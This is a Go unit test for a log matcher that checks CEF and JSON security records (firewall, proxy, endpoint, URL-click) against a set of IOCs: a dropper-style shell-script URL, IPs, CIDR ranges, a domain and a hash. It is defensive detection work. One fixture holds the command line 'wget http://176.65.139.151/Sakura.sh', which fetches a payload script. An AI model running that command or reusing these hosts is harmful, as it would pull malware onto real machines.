package naive

import "testing"

// The cases follow matchd's README and the demo records.
func TestMatchLine(t *testing.T) {
	iocs := []string{
		"http://176.65.139.151/Sakura.sh",
		"176.65.139.126",
		"169.239.130.20:80",
		"45.3.0.0/16",
		"2a10:1::/32",
		"evil.top",
		"0123456789abcdef0123456789abcdef",
	}
	set := NewSet()
	for _, v := range iocs {
		if err := set.Add(v); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range []struct {
		name string
		line string
		want bool
	}{
		{"cef/dst", `<134>Jun  7 10:00:01 fw01 CEF:0|Palo Alto Networks|PAN-OS|10.2.4|TRAFFIC|Traffic allowed|3|rt=Jun 07 2026 10:00:01 UTC src=10.0.0.5 spt=51514 dst=176.65.139.126 dpt=2701`, true},
		{"cef/ip:port address", `<134>1 2026-06-07T10:05:12Z fw02 CEF - - - CEF:0|Fortinet|FortiGate|7.4.3|13|Traffic denied|5|src=169.239.130.20 spt=80 dst=10.0.0.23`, true},
		{"cef/cidr", `CEF:0|a|b|1|c|d|1|src=45.3.200.7 dst=10.0.0.1`, true},
		{"cef/request", `Jun  7 10:07:44 proxy01 ZscalerNSS: CEF:0|Zscaler|NSSWeblog|6.2|allowed|Web request allowed|1|src=10.0.0.9 dst=10.1.1.1 request=http://176.65.139.151/Sakura.sh requestClientApplication=Wget/1.21 (linux-gnu)`, true},
		{"cef/request escaped", `CEF:0|a|b|1|c|d|1|request=https://x.example.net/?u\=http://176.65.139.151/Sakura.sh&a\=1`, true},
		{"cef/dhost subdomain", `CEF:0|a|b|1|c|d|1|dhost=WWW.Evil.Top.`, true},
		{"cef/dhost lookalike", `CEF:0|a|b|1|c|d|1|dhost=evil.top.example.net`, false},
		{"cef/unmatched key", `CEF:0|a|b|1|c|d|1|destinationTranslatedAddress=176.65.139.126 msg=176.65.139.126`, false},
		{"cef/ip prefix", `CEF:0|a|b|1|c|d|1|dst=176.65.139.12`, false},
		{"not a record", `<13>Jun  7 10:09:00 fw01 kernel: eth1: link up`, false},
		{"csl json", `{"SourceIP":"10.0.0.31","DestinationIP":"176.65.139.126","Type":"CommonSecurityLog"}`, true},
		{"dne ipv6 cidr", `{"RemoteIP":"2a10:1:ff::5","Type":"DeviceNetworkEvents"}`, true},
		{"dne hash", `{"RemoteIP":"10.0.0.1","InitiatingProcessMD5":"0123456789ABCDEF0123456789ABCDEF","Type":"DeviceNetworkEvents"}`, true},
		{"dne command line", `{"RemoteIP":"10.0.0.1","InitiatingProcessCommandLine":"wget http://176.65.139.151/Sakura.sh","Type":"DeviceNetworkEvents"}`, false},
		{"dne bare host", `{"RemoteUrl":"cdn.evil.top","Type":"DeviceNetworkEvents"}`, true},
		{"uce exact", `{"Url":"http://176.65.139.151/Sakura.sh","Type":"UrlClickEvents"}`, true},
		{"uce case and query", `{"Url":"HTTP://176.65.139.151/sakura.sh?arch=mips","Type":"UrlClickEvents"}`, true},
		{"uce term boundary", `{"Url":"http://176.65.139.151/Sakura.shell","Type":"UrlClickEvents"}`, false},
		{"uce chain string", `{"Url":"https://safe.example.com/?url=http%3A%2F%2F176.65.139.151%2FSakura.sh","UrlChain":"[\"http://176.65.139.151/Sakura.sh\"]","Type":"UrlClickEvents"}`, true},
		{"uce chain array", `{"Url":"https://safe.example.com/","UrlChain":["https://a.example.com/","https://b.evil.top/x"],"Type":"UrlClickEvents"}`, true},
		{"uce client address", `{"Url":"https://safe.example.com/","IPAddress":"176.65.139.126","Type":"UrlClickEvents"}`, false},
		{"other table", `{"Url":"http://176.65.139.151/Sakura.sh","Type":"Syslog"}`, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, _ := set.MatchLine(c.line)
			if got != c.want {
				t.Errorf("MatchLine = %v, want %v", got, c.want)
			}
		})
	}
}
